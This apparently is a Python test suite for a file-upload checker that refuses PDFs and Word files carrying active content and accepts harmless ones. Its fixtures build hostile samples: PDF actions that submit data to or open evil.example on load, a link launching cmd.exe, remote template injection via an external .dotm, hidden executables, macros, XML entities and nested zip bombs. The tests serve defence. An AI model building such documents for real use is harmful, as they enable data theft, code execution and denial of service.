"""Files that do something of their own are refused; files that only look odd are taken."""

import io
import sys
import zipfile

import pikepdf
import pytest

from core.files.checks import UploadRefused, check_upload
from core.files.models import ContentType
from tests.factories.documents import pdf_bytes, zip_bytes

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def checked(content):
    return check_upload(io.BytesIO(content), len(content))


def pdf_with(change):
    """A PDF of one page after ``change(pdf)``."""
    out = io.BytesIO()
    with pikepdf.new() as pdf:
        pdf.add_blank_page()
        change(pdf)
        pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return out.getvalue()


def action(kind, **more):
    return pikepdf.Dictionary(S=pikepdf.Name(f"/{kind}"), **more)


def link(does):
    """A change that puts a link to click on the page."""

    def change(pdf):
        note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=does)
        pdf.pages[0].Annots = pikepdf.Array([pdf.make_indirect(note)])

    return change


def attach(pdf):
    pdf.attachments["setup.exe"] = b"MZ"


def form_with_script(pdf):
    pdf.Root.AcroForm = pikepdf.Dictionary(XFA=pdf.make_stream(b"<xdp:xdp/>"))


def page_action(pdf):
    pdf.pages[0].AA = pikepdf.Dictionary(O=action("URI", URI="http://evil.example/"))


def docx(**parts):
    """A Word file with further parts; ``__`` in a name stands for a slash, ``_dot_`` for a dot."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        package.writestr("[Content_Types].xml", parts.pop("types", "<Types/>"))
        package.writestr("word/document.xml", "<document/>")
        for name, content in parts.items():
            package.writestr(name.replace("__", "/").replace("_dot_", "."), content)
    return out.getvalue()


def related(kind, mode="External"):
    facts = f'Id="r1" Type="{OFFICE}/{kind}" Target="http://evil.example/t.dotm" TargetMode="{mode}"'
    return f"<Relationships><Relationship {facts}/></Relationships>"


def said_to_be(kind):
    return f'<Types><Override PartName="/word/x.bin" ContentType="{kind}"/></Types>'


SHEET = zip_bytes("[Content_Types].xml", "xl/workbook.xml")
WITH_MACRO = zip_bytes("[Content_Types].xml", "xl/workbook.xml", "xl/vbaProject.bin")
REFUSED = {
    "a file inside": pdf_with(attach),
    "a form with scripts": pdf_with(form_with_script),
    "sends at opening": pdf_bytes(OpenAction=action("SubmitForm", F="http://evil.example/")),
    "opens the web at opening": pdf_bytes(OpenAction=action("URI", URI="http://evil.example/")),
    "opens a share at opening": pdf_bytes(OpenAction=action("GoToR", F="//evil.example/x.pdf")),
    "after a harmless one": pdf_bytes(OpenAction=action("GoTo", Next=action("URI", URI="http://evil.example/"))),
    "opens the web on a page": pdf_with(page_action),
    "a link that starts a programme": pdf_with(link(action("Launch", F="cmd.exe"))),
    "a link into another file": pdf_with(link(action("GoToE"))),
    "rich media": pdf_with(link(pikepdf.Dictionary(RichMedia=1))),
    "a template from elsewhere": docx(word___rels__settings_dot_xml_dot_rels=related("attachedTemplate")),
    "a picture from elsewhere": docx(word___rels__document_dot_xml_dot_rels=related("image", "external")),
    "a template, in UTF-16": docx(word___rels__settings_dot_xml_dot_rels=related("attachedTemplate").encode("utf-16")),
    "a macro by its type": docx(types=said_to_be("application/vnd.ms-office.vbaProject"), word__x_dot_bin=b"x"),
    "a kind with macros": docx(types=said_to_be("application/vnd.ms-word.document.macroEnabled.main+xml")),
    "a macro by its relation": docx(word___rels__document_dot_xml_dot_rels=related("vbaProject", "Internal")),
    "an entity": docx(types='<!DOCTYPE x [<!ENTITY a "b">]><Types>&a;</Types>'),
    "a programme inside": docx(word__embeddings__setup_dot_exe=b"MZ"),
    "a programme under another name": docx(word__media__image1_dot_png=b"MZ\x90\0"),
    "an old container": docx(word__x_dot_bin=b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"),
    "text inside": docx(word__embeddings__note_dot_txt=b"text"),
    "no sheet after all": docx(word__embeddings__sheet_dot_xlsx=zip_bytes("readme.txt")),
    "a sheet with a macro inside": docx(word__embeddings__sheet_dot_xlsx=WITH_MACRO),
    "a sheet under another name": docx(word__embeddings__sheet_dot_docx=SHEET),
    "a part twice": docx(WORD__document_dot_xml=b"<x/>"),
    "a broken list": docx(types="<Types>"),
}
TAKEN = {
    "a link to the web": pdf_with(link(action("URI", URI="https://vanban.chinhphu.vn/"))),
    "opens at a page": pdf_bytes(OpenAction=action("GoTo", D="cover")),
    "a link to the web in Word": docx(word___rels__document_dot_xml_dot_rels=related("hyperlink")),
    "a sheet behind a chart": docx(word__embeddings__sheet_dot_xlsx=SHEET),
}


@pytest.mark.parametrize("case", REFUSED)
def test_what_acts_is_refused(case):
    with pytest.raises(UploadRefused):
        checked(REFUSED[case])


@pytest.mark.parametrize("case", TAKEN)
def test_what_waits_for_a_click_is_taken(case):
    assert checked(TAKEN[case]) in ContentType


def many(number, size):
    """A Word file with so many inner sheets, each with a list of relations that unpacks to so many bytes."""
    relation = '<Relationship Id="r" Type="x" Target="y"/>'
    words = f"<Relationships>{relation * (size // len(relation))}</Relationships>"
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", "<Types/>")
        package.writestr("xl/workbook.xml", "<workbook/>")
        package.writestr("xl/_rels/workbook.xml.rels", words)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", "<Types/>")
        package.writestr("word/document.xml", "<document/>")
        for place in range(number):
            package.writestr(f"word/embeddings/sheet{place}.xlsx", inner.getvalue())
    return out.getvalue()


@pytest.mark.parametrize(("number", "size"), [(1, 3_000_000), (3, 1_000_000), (20, 200_000), (21, 10)])
def test_a_small_file_of_many_lists_or_files_is_refused(number, size):
    content = many(number, size)
    assert len(content) < 100_000
    with pytest.raises(UploadRefused, match="quá"):
        checked(content)


def test_twenty_sheets_behind_charts_are_taken():
    assert checked(many(20, 50_000)) == ContentType.DOCX


def test_the_lists_are_read_outside_the_server(monkeypatch):
    monkeypatch.setattr(sys, "executable", "/bin/false")
    with pytest.raises(UploadRefused):
        checked(many(2, 77))
